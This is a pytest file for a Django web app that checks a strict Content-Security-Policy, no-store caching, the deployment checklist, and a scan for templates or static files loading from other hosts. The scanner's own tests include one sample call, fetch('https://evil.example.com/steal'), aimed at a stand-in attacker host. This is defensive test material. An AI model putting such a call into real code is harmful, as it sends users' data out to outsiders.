"""Headers: a strict Content-Security-Policy on every page, no-store on everything a signed-in
user gets (static files keep their caching), production passing Django's deployment checklist,
and no template or static file that makes a browser load anything from another host."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from tests.conftest import client_for

ROOT = Path(__file__).resolve().parent.parent


# --- Content-Security-Policy ------------------------------------------------------------------


def directives(header: str) -> dict[str, list[str]]:
    parts = (part.split() for part in header.split(";") if part.strip())
    return {name: values for name, *values in parts}


def test_it_sends_a_strict_policy_on_every_page(client: Client, db: None):
    response = client.get(reverse("login"))
    policy = directives(response["Content-Security-Policy"])
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'", "data:"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"] and policy["form-action"] == ["'self'"]
    assert not [v for values in policy.values() for v in values if "unsafe" in v]


def test_it_keeps_the_policy_on_error_pages(client: Client, office):
    response = client_for(office).get("/no-such-page/")
    assert response.status_code == 404
    assert "script-src 'self'" in response["Content-Security-Policy"]


# --- no-store -------------------------------------------------------------------------------


def test_it_marks_every_signed_in_response_no_store(office, plan):
    client = client_for(office)
    pages = [
        reverse("home"),
        reverse("relief:person_list"),
        reverse("campaigns:campaign_detail", args=[plan.published.pk]),
        reverse("campaigns:report_detail", args=[plan.report_a.pk]),
        reverse("campaigns:campaign_export", args=[plan.published.pk]),  # a download
        "/no-such-page/",  # an error
    ]
    for url in pages:
        response = client.get(url)
        assert "no-store" in response["Cache-Control"], url
        assert response["Pragma"] == "no-cache", url


def test_it_leaves_static_files_cacheable(office):
    client = client_for(office)
    response = client.get(settings.STATIC_URL + "css/app.css")
    assert response.status_code == 200
    assert "no-store" not in response.get("Cache-Control", "")
    assert "Pragma" not in response


def test_it_leaves_the_anonymous_login_page_alone(client: Client, db: None):
    response = client.get(reverse("login"))
    assert response.status_code == 200
    assert "Pragma" not in response


# --- production settings --------------------------------------------------------------------


def test_production_settings_pass_the_deployment_checklist():
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "DATABASE_URL"))}
    env.update(
        DJANGO_SETTINGS_MODULE="minzheng.settings.production",
        DJANGO_SECRET_KEY="x" * 20 + os.urandom(24).hex(),
        DJANGO_ALLOWED_HOSTS="dalei.example.gov.cn",
    )
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


# --- no foreign host ------------------------------------------------------------------------

ABSOLUTE = r"(?:https?:)?//[A-Za-z0-9.-]+\.[A-Za-z]{2,}[^\s\"'<>)]*"
# What a browser loads, in markup and stylesheets.
MARKUP_LOADS = [
    re.compile(
        rf"""\b(?:src|href|action|formaction|poster|data|srcset|xlink:href)\s*=\s*["']?\s*({ABSOLUTE})""",
        re.I,
    ),
    re.compile(rf"""url\(\s*["']?\s*({ABSOLUTE})""", re.I),
    re.compile(rf"""@import\s+(?:url\()?\s*["']?\s*({ABSOLUTE})""", re.I),
    re.compile(r"""sourceMappingURL\s*=\s*(\S+)"""),
    re.compile(rf"""<meta[^>]+http-equiv=["']?refresh[^>]+url=({ABSOLUTE})""", re.I),
]
# In scripts, any absolute address at all is suspect (import(), fetch(), new Worker, a built
# URL): each one found must be listed here, file by file, with the reason it is not a load.
SCRIPT_ADDRESS = re.compile(r"https?://[A-Za-z0-9.-]+[^\s\"'`<>)\\]*")
NOT_LOADS = {
    # XML namespaces: names, never fetched.
    "*": {
        "http://www.w3.org/2000/svg",
        "http://www.w3.org/1999/xlink",
        "http://www.w3.org/2000/xmlns/",
        "http://www.w3.org/XML/1998/namespace",
        "http://www.w3.org/1999/xhtml",
    },
    # Licence banners in comments.
    "vendor/echarts/echarts.min.js": {
        "http://www.apache.org/licenses/LICENSE-2.0",
        "https://github.com/ecomfe/zrender/blob/master/LICENSE",
    },
    "vendor/tabler/tabler.min.js": {
        "https://tabler.io",
        "https://github.com/tabler/tabler/blob/master/LICENSE",
        "https://popper.js.org/docs/v2/",  # in the text of an error message
    },
    "vendor/tabler/tabler.min.css": {
        "https://tabler.io",
        "https://github.com/tabler/tabler/blob/master/LICENSE",
    },
}
# Scripts the pages load from installed apps (not under static/).
APP_STATIC = ["django_htmx/htmx-2.min.js"]


def template_files() -> list[Path]:
    dirs = [ROOT / "templates", *sorted(ROOT.glob("*/templates"))]
    return [p for d in dirs for p in sorted(d.rglob("*")) if p.is_file() and ".venv" not in p.parts]


def static_files() -> list[tuple[str, Path]]:
    from django.contrib.staticfiles import finders

    files = [
        (p.relative_to(ROOT / "static").as_posix(), p)
        for p in sorted((ROOT / "static").rglob("*"))
        if p.is_file()
    ]
    for name in APP_STATIC:
        found = finders.find(name)
        assert found, name
        files.append((name, Path(found)))
    return files


def foreign_loads(text: str) -> list[str]:
    found = []
    for pattern in MARKUP_LOADS:
        for match in pattern.finditer(text):
            address = match.group(1).strip("\"'")
            if address.startswith("data:"):
                continue
            found.append(address)
    return found


def script_addresses(name: str, text: str) -> list[str]:
    allowed = NOT_LOADS["*"] | NOT_LOADS.get(name, set())
    return [a for a in SCRIPT_ADDRESS.findall(text) if a.rstrip(".,;") not in allowed]


def test_no_template_loads_from_another_host():
    files = template_files()
    assert len(files) > 50
    found = {}
    for path in files:
        loads = foreign_loads(path.read_text(encoding="utf-8"))
        if loads:
            found[str(path.relative_to(ROOT))] = loads
    assert not found, f"模板引用了外部地址（请把资源放进 static/vendor）：{found}"


def test_no_static_file_loads_from_another_host():
    files = static_files()
    assert any(name.endswith("echarts.min.js") for name, _ in files)
    found = {}
    for name, path in files:
        if path.suffix not in (".css", ".js", ".html", ".svg", ".map", ".mjs"):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        # In stylesheets a data: URL may carry an SVG namespace; it is not a load.
        loads = [a for a in foreign_loads(text) if a.rstrip(".,;") not in NOT_LOADS["*"]]
        if path.suffix in (".js", ".mjs"):
            loads += script_addresses(name, text)
        if loads:
            found[name] = sorted(set(loads))
    assert not found, f"静态文件引用了外部地址（或未列入 NOT_LOADS 的地址）：{found}"


@pytest.mark.parametrize(
    "text",
    [
        '<script src="https://cdn.example.com/x.js"></script>',
        "<link rel=stylesheet href=//fonts.googleapis.com/css>",
        "body { background: url('https://img.example.com/a.png') }",
        '@import "https://fonts.googleapis.com/css2?family=Noto";',
        "//# sourceMappingURL=echarts.min.js.map",
        '<img srcset="https://img.example.com/a.png 2x">',
    ],
)
def test_the_scan_finds_a_foreign_load(text: str):
    assert foreign_loads(text)


def test_the_scan_lets_relative_and_data_addresses_pass():
    text = (
        '<script src="/static/js/app.js"></script><a href="{% url \'home\' %}">'
        "x { background: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>\") }"
    )
    assert foreign_loads(text) == []
    assert script_addresses("js/x.js", 'fetch("https://evil.example.com/steal")')
    assert not script_addresses("js/x.js", 'createElementNS("http://www.w3.org/2000/svg", "g")')
